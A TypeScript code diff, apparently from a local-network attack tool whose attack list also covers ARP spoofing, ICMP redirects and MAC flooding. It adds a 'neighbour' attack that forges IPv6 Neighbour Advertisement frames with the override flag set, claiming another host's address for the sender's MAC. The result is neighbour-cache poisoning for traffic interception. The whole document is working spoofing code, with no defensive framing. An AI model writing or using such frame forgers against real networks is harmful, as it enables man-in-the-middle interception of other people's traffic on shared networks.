@@ -32,6 +32,7 @@ export type Attack =
       count: number;
     }
   | { kind: 'arp'; claims: string; to: string; destinationMac: string; count: number }
+  | { kind: 'neighbour'; from: string; claims: string; to: string; destinationMac: string; count: number }
   | { kind: 'mac'; as: string; count: number };
 
 interface Interface {
@@ -72,6 +73,13 @@ function frameOf(attack: Attack, own: Buffer): Buffer {
         : ethernet(own, attack.destinationMac, ETH_P_IP, ipv4(attack.from, attack.to, ICMP, redirect4(attack)));
     case 'arp':
       return ethernet(own, attack.destinationMac, ETH_P_ARP, arpReply(own, attack));
+    case 'neighbour':
+      return ethernet(
+        own,
+        attack.destinationMac,
+        ETH_P_IPV6,
+        ipv6(attack.from, attack.to, ICMPV6, 255, neighbourAdvertisement(own, attack.claims)),
+      );
     case 'mac':
       return ethernet(macBytes(attack.as), 'ff:ff:ff:ff:ff:ff', ETH_P_ARP, Buffer.alloc(28));
   }
@@ -141,6 +149,11 @@ function routerAdvertisement(prefix: string): Buffer {
   option.writeUInt32BE(7200, 8);
   parseAddress(prefix).copy(option, 16);
   return Buffer.concat([head, option]);
+}
+
+/** RFC 4861, 4.4: asked for, and to be believed over what is known. */
+function neighbourAdvertisement(own: Buffer, target: string): Buffer {
+  return Buffer.concat([Buffer.of(136, 0, 0, 0, 0x60, 0, 0, 0), parseAddress(target), Buffer.of(2, 1), own]);
 }
 
 /** RFC 4861, 4.5 */
